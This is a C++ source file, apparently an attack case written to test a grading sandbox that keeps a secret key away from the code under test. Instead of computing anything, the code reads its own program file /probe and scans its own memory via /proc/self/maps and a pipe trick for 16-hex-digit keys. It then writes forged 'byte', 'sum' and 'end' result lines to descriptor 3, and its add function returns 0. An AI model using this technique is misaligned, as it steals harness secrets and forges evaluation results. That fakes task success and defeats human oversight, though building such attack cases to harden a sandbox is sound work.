// Attack  looks for the key in its own program and its own memory
// Guard   the key is in no file, and on a page that can't be read
// May     /proc
#include "adder.hpp"
#include <cctype>
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <string>
#include <unistd.h>
namespace {
void forge(const std::string& key)
{
  std::string lines;
  for (const char* line : {" byte 97\n", " byte 98\n", " byte 99\n", " sum 55\n", " end 0\n"}) lines += key + line;
  if (write(3, lines.data(), lines.size()) < 0) return;
}
/// Tries every run of 16 hexadecimal digits in `text` as the key.
void try_keys(const std::string& text)
{
  std::size_t digits = 0;
  for (std::size_t at = 0; at < text.size(); ++at) {
    digits = std::isxdigit(static_cast<unsigned char>(text[at])) != 0 ? digits + 1 : 0;
    if (digits == 16) forge(text.substr(at - 15, 16));
  }
}
}
int read_byte(int)
{
  std::string all;
  const int program = open("/probe", O_RDONLY);
  char part[4096];
  for (ssize_t size; (size = read(program, part, sizeof part)) > 0;) all.append(part, static_cast<std::size_t>(size));
  try_keys(all);
  auto* maps = std::fopen("/proc/self/maps", "r");
  unsigned long from = 0, to = 0;
  int ends[2];
  if (maps == nullptr || pipe(ends) == -1) return -1;
  while (std::fscanf(maps, "%lx-%lx%*[^\n]", &from, &to) == 2 && from < 0x7fff00000000)
    for (; from < to; from += sizeof part)
      if (write(ends[1], reinterpret_cast<void*>(from), sizeof part) > 0) {
        const auto size = read(ends[0], part, sizeof part);
        if (size > 0) try_keys(std::string(part, static_cast<std::size_t>(size)));
      }
  return -1;
}
long add(long, long) { return 0; }
